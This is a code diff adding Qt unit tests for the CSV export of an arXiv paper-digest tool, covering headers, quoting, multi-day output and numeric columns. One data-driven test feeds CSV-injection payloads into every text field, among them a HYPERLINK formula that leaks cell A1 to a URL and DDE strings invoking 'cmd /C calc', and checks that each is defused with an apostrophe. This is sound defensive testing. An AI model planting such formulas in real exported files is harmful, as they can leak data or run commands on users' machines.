@@ -1,8 +1,9 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// The pure-string exports of lectern_core (JSON, BibTeX, RIS, HTML, monthly overview) and the digest
+// The pure-string exports of lectern_core (JSON, BibTeX, RIS, CSV, HTML, monthly overview) and the digest
 // loader's selections, on a synthetic day stored in a real SQLite file.
 #include "digest/bibtexwriter.h"
 #include "digest/digestbuilder.h"
+#include "digest/digestcsv.h"
 #include "digest/digesthtml.h"
 #include "digest/digestjson.h"
 #include "digest/digestloader.h"
@@ -14,6 +15,7 @@
 #include "text/textounicode.h"
 
 #include <testkit/bibreader.h>
+#include <testkit/csvreader.h>
 #include <testkit/fixtures.h>
 #include <testkit/syntheticday.h>
 
@@ -99,6 +101,24 @@ Digest dayDigest(const DigestFilter &filter = {})
     DigestLoader::narrow(d, filter);
     return d;
 }
+
+/// The columns of DigestCsv, in order.
+enum CsvColumn {
+    Id,
+    Version,
+    Title,
+    Authors,
+    Categories,
+    Day,
+    Relevance,
+    Novelty,
+    ScoredBy,
+    Comment,
+    Starred,
+    Tags,
+    Note,
+    Url
+};
 
 QSet<QString> keysOf(const QJsonObject &o)
 {
@@ -513,6 +533,171 @@ private Q_SLOTS:
         QCOMPARE(moss.values(u"KW"_s), (QStringList {u"field-work"_s, u"to-read"_s}));
         QCOMPARE(moss.value(u"N1"_s), u"Ask the authors for the tower list. / check tower 12 & 13"_s);
         QVERIFY(records[0].values(u"N1"_s).isEmpty());
+    }
+
+    void csvParsesBack()
+    {
+        const Digest d = dayDigest();
+        const QByteArray bytes = DigestCsv::write({d});
+        QVERIFY2(bytes.startsWith("\xEF\xBB\xBF"), "no UTF-8 byte order mark");
+        QString error;
+        const QList<Test::CsvRecord> rows = Test::readCsv(QString::fromUtf8(bytes.mid(3)), &error);
+        QVERIFY2(error.isEmpty(), qPrintable(error));
+        QCOMPARE(rows.size(), d.entries.size() + 1);
+        QCOMPARE(rows[0].fields,
+            (QStringList {u"arXiv id"_s, u"version"_s, u"title"_s, u"authors"_s, u"categories"_s, u"day"_s,
+                u"relevance"_s, u"novelty"_s, u"scored by"_s, u"comment"_s, u"starred"_s, u"tags"_s,
+                u"note"_s, u"URL"_s}));
+        for (qsizetype i = 0; i < d.entries.size(); ++i) {
+            const Test::CsvRecord &r = rows[i + 1];
+            const DigestEntry &e = d.entries[i];
+            QCOMPARE(r.fields.size(), 14);
+            QCOMPARE(r.fields[Id], e.paper.arxivId);
+            QCOMPARE(r.fields[Version], u"1"_s);
+            QCOMPARE(r.fields[Title], TexToUnicode::convert(e.paper.title));
+            QCOMPARE(r.fields[Categories], u"math.CO; q-bio.PE"_s);
+            QCOMPARE(r.fields[Day], u"2026-03-17"_s);
+            QCOMPARE(r.fields[Url], e.paper.absUrl());
+            // Numbers bare, so that a spreadsheet reads them as numbers; every text field quoted.
+            for (int c = 0; c < r.fields.size(); ++c)
+                QCOMPARE(r.quoted[c], c != Version && c != Relevance && c != Novelty);
+        }
+        const Test::CsvRecord &lichen = rows[1];
+        QCOMPARE(lichen.fields[Authors],
+            u"Maren Óskarsdóttir (Reykjavik Institute of Lichens, Akureyri); Tobias Renn"_s);
+        QCOMPARE(lichen.fields[Relevance], QString()); // an author match has no marks of its own
+        QCOMPARE(lichen.fields[ScoredBy], QString());
+        QCOMPARE(lichen.fields[Comment], u"Author match"_s);
+        QCOMPARE(lichen.fields[Starred], u"no"_s);
+        const Test::CsvRecord &stedman = rows[2];
+        QCOMPARE(stedman.fields[Authors], u"Hal Quarter; Díaz Campanero"_s);
+        QCOMPARE(stedman.fields[Relevance], u"10"_s);
+        QCOMPARE(stedman.fields[Novelty], u"7"_s);
+        QCOMPARE(stedman.fields[ScoredBy], u"gpt-5"_s);
+        QCOMPARE(stedman.fields[Comment], u"Change ringing, core topic."_s);
+        QCOMPARE(rows[3].fields[Title], u"Bells & Whistles: 100% Coverage of x₁ Rows"_s);
+        QCOMPARE(rows[3].fields[Starred], u"yes"_s);
+        QCOMPARE(rows[4].fields[Title], u"Sets A, B and #hash_tags in Ringing"_s); // TeX groups, as in RIS
+        QCOMPARE(rows[4].fields[Tags], u"to-read"_s);
+        const Test::CsvRecord &moss = rows[6];
+        QCOMPARE(moss.fields[Tags], u"field-work; to-read"_s);
+        QCOMPARE(moss.fields[Note], u"Ask the authors for the tower list.\ncheck tower 12 & 13"_s);
+        QCOMPARE(moss.fields[Starred], u"yes"_s);
+    }
+
+    void csvSeveralDaysOneRowEach()
+    {
+        Test::TempProfileDir dir;
+        auto store = populatedStore(dir);
+        auto days = DigestLoader::range(*store, kDay, kOtherDay, settings());
+        QVERIFY(days.ok());
+        QString error;
+        const auto rows = Test::readCsv(QString::fromUtf8(DigestCsv::write(*days).mid(3)), &error);
+        QVERIFY2(error.isEmpty(), qPrintable(error));
+        QCOMPARE(rows.size(), 1 + days->at(0).entries.size() + days->at(1).entries.size());
+        QCOMPARE(rows[1].fields[Day], u"2026-03-17"_s);
+        QCOMPARE(rows.last().fields[Day], u"2026-03-18"_s);
+        QCOMPARE(rows.last().fields[Id], days->at(1).entries.last().paper.arxivId);
+    }
+
+    // Text that would break a record or run as a formula (OWASP "CSV Injection"), in every text column:
+    // the file parses back to the same text, one line where the column is one line, with an apostrophe
+    // before a formula's first character.
+    void csvHostileFields_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("line"); // title, authors, comment, tags
+        QTest::addColumn<QString>("note");
+        QTest::newRow("commas and quotes")
+            << u"Bells, \"towers\", and \"\"more\"\""_s << u"Bells, \"towers\", and \"\"more\"\""_s
+            << u"Bells, \"towers\", and \"\"more\"\""_s;
+        QTest::newRow("line breaks") << u"first\r\nsecond, \"2\"\nthird\rfourth"_s
+                                     << u"first second, \"2\" third fourth"_s
+                                     << u"first\r\nsecond, \"2\"\nthird\rfourth"_s;
+        const QString link = u"=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&A1,\"Open\")"_s;
+        QTest::newRow("HYPERLINK") << link << u"'"_s + link << u"'"_s + link;
+        const QString sum = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
+        QTest::newRow("@SUM") << sum << u"'"_s + sum << u"'"_s + sum;
+        QTest::newRow("+1") << u"+1"_s << u"'+1"_s << u"'+1"_s;
+        QTest::newRow("-2") << u"-2"_s << u"'-2"_s << u"'-2"_s;
+        QTest::newRow("-2+3") << u"-2+3+cmd|' /C calc'!A0"_s << u"'-2+3+cmd|' /C calc'!A0"_s
+                              << u"'-2+3+cmd|' /C calc'!A0"_s;
+        QTest::newRow("tab") << u"\t=1+1"_s << u"'=1+1"_s << u"'\t=1+1"_s;
+        QTest::newRow("carriage return") << u"\r=1+1"_s << u"'=1+1"_s << u"'\r=1+1"_s;
+        QTest::newRow("spaces first") << u"  =1+1"_s << u"'=1+1"_s << u"'  =1+1"_s;
+        QTest::newRow("full-width") << u"＝1+1"_s << u"'＝1+1"_s << u"'＝1+1"_s;
+        QTest::newRow("signs inside")
+            << u"Self-similar a=b, x+y @ 2 -3"_s << u"Self-similar a=b, x+y @ 2 -3"_s
+            << u"Self-similar a=b, x+y @ 2 -3"_s;
+        QTest::newRow("apostrophe first") << u"'quoted'"_s << u"'quoted'"_s << u"'quoted'"_s;
+    }
+    void csvHostileFields()
+    {
+        QFETCH(QString, text);
+        QFETCH(QString, line);
+        QFETCH(QString, note);
+        DigestEntry e;
+        e.paper.arxivId = u"2603.17001"_s;
+        e.paper.version = 2;
+        e.paper.title = text;
+        e.paper.authors = {text, u"Ann Lee"_s};
+        e.paper.categories = {u"cs.LG"_s};
+        Score s;
+        s.arxivId = e.paper.arxivId;
+        s.version = 2;
+        s.relevance = 9;
+        s.novelty = 8;
+        s.comment = text;
+        s.model = u"gpt-5"_s;
+        e.score = s;
+        e.state.arxivId = e.paper.arxivId;
+        e.state.tags = {text, u"to-read"_s};
+        e.state.note = text;
+        Digest d;
+        d.run.date = kDay;
+        d.entries = {e};
+
+        QString error;
+        const auto rows = Test::readCsv(QString::fromUtf8(DigestCsv::write({d}).mid(3)), &error);
+        QVERIFY2(error.isEmpty(), qPrintable(error));
+        QCOMPARE(rows.size(), 2);
+        const QStringList &f = rows[1].fields;
+        QCOMPARE(f.size(), 14);
+        QCOMPARE(f[Id], u"2603.17001"_s);
+        QCOMPARE(f[Version], u"2"_s);
+        QCOMPARE(f[Title], line);
+        QCOMPARE(f[Authors], line + u"; Ann Lee"_s);
+        QCOMPARE(f[Relevance], u"9"_s);
+        QCOMPARE(f[Novelty], u"8"_s);
+        QCOMPARE(f[Comment], line);
+        QCOMPARE(f[Tags], line + u"; to-read"_s);
+        QCOMPARE(f[Note], note);
+        QCOMPARE(f[Url], u"https://arxiv.org/abs/2603.17001"_s);
+    }
+
+    void csvNumbersStayNumbers()
+    {
+        DigestEntry e;
+        e.paper.arxivId = u"2603.17001"_s;
+        e.paper.version = 3;
+        Score s;
+        s.relevance = -2; // out of the scale, but a number: no apostrophe, no quotes
+        s.novelty = 10;
+        s.model = u"lectern-local"_s;
+        e.score = s;
+        Digest d;
+        d.run.date = kDay;
+        d.entries = {e};
+        QString error;
+        const auto rows = Test::readCsv(QString::fromUtf8(DigestCsv::write({d}).mid(3)), &error);
+        QVERIFY2(error.isEmpty(), qPrintable(error));
+        QCOMPARE(rows.size(), 2);
+        const Test::CsvRecord &r = rows[1];
+        QCOMPARE(r.fields[Version], u"3"_s);
+        QCOMPARE(r.fields[Relevance], u"-2"_s);
+        QCOMPARE(r.fields[Novelty], u"10"_s);
+        QVERIFY(!r.quoted[Version] && !r.quoted[Relevance] && !r.quoted[Novelty]);
+        QCOMPARE(r.fields[ScoredBy], u"lectern-local"_s);
     }
 
     void htmlIsSelfContained()
